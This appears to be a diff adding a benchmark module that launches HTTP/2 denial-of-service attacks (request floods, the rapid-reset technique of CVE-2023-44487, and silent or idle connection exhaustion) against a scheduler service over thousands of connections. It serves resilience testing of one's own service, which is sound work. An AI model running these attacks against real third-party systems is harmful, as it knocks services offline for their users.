@@ -1,0 +1,216 @@
+"""Thousands of connections that mean harm, in a process of their own.
+
+`python -m bench.attackers --target HOST:PORT --ready-file FILE` connects, writes the file, attacks
+until SIGTERM, and then prints what came of it as JSON. The kinds:
+
+- `flood`: on each connection one Admit after another, each of 64 KiB and of another tenant;
+- `resets`: calls that are cancelled in the moment they are sent (CVE-2023-44487);
+- `silent`: nothing is ever said, not even the opening of HTTP/2;
+- `idle`: the opening alone.
+"""
+
+import asyncio
+import json
+import random
+import resource
+import signal
+import struct
+from collections import Counter
+from pathlib import Path
+from typing import cast
+
+import click
+import uvloop
+from schedsvc_client.v1 import scheduler_pb2 as pb
+
+from bench import http2
+from bench.http2 import Kind
+
+__all__ = ["KINDS", "MESSAGE_BYTES", "Attack", "main"]
+
+KINDS = ("flood", "resets", "silent", "idle")
+#: With its head and its frames it fits into a window that nobody has raised.
+MESSAGE_BYTES = 65_500
+PATH = "/schedsvc.v1.SchedulerService/Admit"
+
+_SPARE_FILES = 64
+_CONNECTING_AT_ONCE = 128
+_RESETS_AT_ONCE = 100
+_AGAIN_S = 1.0
+_NAME_BYTES = 250
+_FILLER_FIELD = 1_000
+
+
+def _message(size: int) -> tuple[bytes, int, int]:
+    """Make an AdmitRequest of so many bytes; where in it id and tenant stand."""
+    request_id, tenant = "#" * 32, "@" * _NAME_BYTES
+    request = pb.AdmitRequest(
+        request_id=request_id,
+        tenant=tenant,
+        input_tokens=[100],
+        max_output_tokens=100,
+        prefix_block_hashes=range(1, 4_097),
+    ).SerializeToString()
+    # A field that nobody knows: it has to be skipped.
+    rest = size - len(request) - 5
+    filler = _varint(_FILLER_FIELD << 3 | 2) + _varint(rest) + bytes(rest)
+    whole = request + filler
+    return whole, whole.index(b"#"), whole.index(b"@")
+
+
+def _varint(value: int) -> bytes:
+    out = bytearray()
+    while value >= 0x80:
+        out.append(value & 0x7F | 0x80)
+        value >>= 7
+    return bytes((*out, value))
+
+
+class Attack:
+    """What all connections share: the messages, and the count of what happens."""
+
+    def __init__(
+        self, kind: str, seed: int, token: str = "", message_bytes: int = MESSAGE_BYTES
+    ) -> None:
+        self.kind = kind
+        self.counts: Counter[str] = Counter()
+        self._random = random.Random(seed)
+        self._metadata = (("authorization", f"Bearer {token}"),) if token else ()
+        self._message, self._id_at, self._tenant_at = _message(message_bytes)
+
+    def call(self, stream: int) -> bytes:
+        """Write a call of a tenant that nobody has heard of."""
+        drawn = self._random.randbytes(_NAME_BYTES // 2).hex().encode()
+        message = bytearray(self._message)
+        message[self._id_at : self._id_at + 32] = drawn[:32]
+        message[self._tenant_at : self._tenant_at + len(drawn)] = drawn
+        return http2.call(stream, PATH, bytes(message), self._metadata)
+
+
+class _Connection(asyncio.Protocol):
+    """One connection. It attacks as often as the other end lets it."""
+
+    def __init__(self, attack: Attack) -> None:
+        self._attack = attack
+        self._data = bytearray()
+        self._window = http2.WINDOW
+        self._stream = -1
+        self._next = b""
+        self._open = 0
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        # uvloop's transports write, though they are no asyncio.WriteTransport.
+        self._transport = cast(asyncio.WriteTransport, transport)
+        self._attack.counts["connected"] += 1
+        if self._attack.kind != "silent":
+            self._transport.write(http2.OPENING)
+        self._go_on()
+
+    def data_received(self, data: bytes) -> None:
+        counts = self._attack.counts
+        self._data += data
+        for frame in http2.frames(self._data):
+            if frame.kind == Kind.SETTINGS and not frame.flags & http2.ACK:
+                self._transport.write(http2.frame(Kind.SETTINGS, http2.ACK))
+            elif frame.kind == Kind.PING and not frame.flags & http2.ACK:
+                self._transport.write(http2.frame(Kind.PING, http2.ACK, 0, frame.payload))
+            elif frame.kind == Kind.WINDOW_UPDATE and frame.stream == 0:
+                self._window += frame.increment
+            elif frame.kind == Kind.GOAWAY:
+                counts["goaway"] += 1
+            elif frame.ends and self._open:
+                self._open -= 1
+                counts["reset" if frame.kind == Kind.RST_STREAM else "answered"] += 1
+        self._go_on()
+
+    def connection_lost(self, error: Exception | None) -> None:
+        self._attack.counts["lost"] += 1
+
+    def _go_on(self) -> None:
+        kind = self._attack.kind
+        if kind == "flood" and not self._open:
+            self._flood()
+        elif kind == "resets":
+            self._reset()
+
+    def _flood(self) -> None:
+        if not self._next:
+            self._stream += 2
+            self._next = self._attack.call(self._stream)
+        if self._window >= len(self._next):
+            self._window -= len(self._next)
+            self._open += 1
+            self._attack.counts["sent"] += 1
+            self._transport.write(self._next)
+            self._next = b""
+
+    def _reset(self) -> None:
+        out = []
+        for _ in range(_RESETS_AT_ONCE):
+            self._stream += 2
+            out += [http2.call(self._stream, PATH, b""), http2.reset(self._stream)]
+        self._attack.counts["sent"] += _RESETS_AT_ONCE
+        self._transport.write(b"".join(out))
+        # What a reset stream would still be told does not come, so a ping asks to go on.
+        self._transport.write(http2.frame(Kind.PING, 0, 0, struct.pack(">Q", self._stream)))
+
+
+async def _connect(attack: Attack, host: str, port: int, gate: asyncio.Semaphore) -> None:
+    """Connect, and again after a second where that failed or was ended."""
+    loop = asyncio.get_running_loop()
+    while True:
+        try:
+            async with gate:
+                transport, _ = await loop.create_connection(lambda: _Connection(attack), host, port)
+        except OSError:
+            attack.counts["refused"] += 1
+            await asyncio.sleep(_AGAIN_S)
+            continue
+        while not transport.is_closing():  # noqa: ASYNC110 - nobody is told of it
+            await asyncio.sleep(_AGAIN_S)
+
+
+async def _attack(attack: Attack, target: str, connections: int, ready_file: Path) -> None:
+    host, _, port = target.rpartition(":")
+    gate = asyncio.Semaphore(_CONNECTING_AT_ONCE)
+    stop = asyncio.Event()
+    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
+    tasks = [
+        asyncio.ensure_future(_connect(attack, host, int(port), gate)) for _ in range(connections)
+    ]
+    while attack.counts["connected"] + attack.counts["refused"] < connections:  # noqa: ASYNC110 - a count
+        await asyncio.sleep(0.05)
+    ready_file.touch()  # noqa: ASYNC240 - nothing waits for it here
+    await stop.wait()
+    for task in tasks:
+        task.cancel()
+    await asyncio.gather(*tasks, return_exceptions=True)
+
+
+def _allow_files(files: int) -> int:
+    """Raise the limit of open files as far as it goes; return how many connections fit."""
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    wanted = files + _SPARE_FILES
+    limit = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
+    return limit - _SPARE_FILES
+
+
+@click.command()
+@click.option("--target", required=True, help="HOST:PORT of the scheduler.")
+@click.option("--connections", type=click.IntRange(1), default=10_000, show_default=True)
+@click.option("--kind", type=click.Choice(KINDS), default="flood", show_default=True)
+@click.option("--token", default="", help="A bearer token; empty: none.")
+@click.option("--seed", type=int, default=1, show_default=True)
+@click.option("--ready-file", type=click.Path(path_type=Path), required=True)
+def main(target: str, connections: int, kind: str, token: str, seed: int, ready_file: Path) -> None:
+    """Attack a scheduler of your own until SIGTERM; print what came of it."""
+    attack = Attack(kind, seed, token)
+    connections = _allow_files(connections)
+    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
+        runner.run(_attack(attack, target, connections, ready_file))
+    click.echo(json.dumps({"connections": connections, **attack.counts}))
+
+
+if __name__ == "__main__":
+    main(prog_name="python -m bench.attackers")
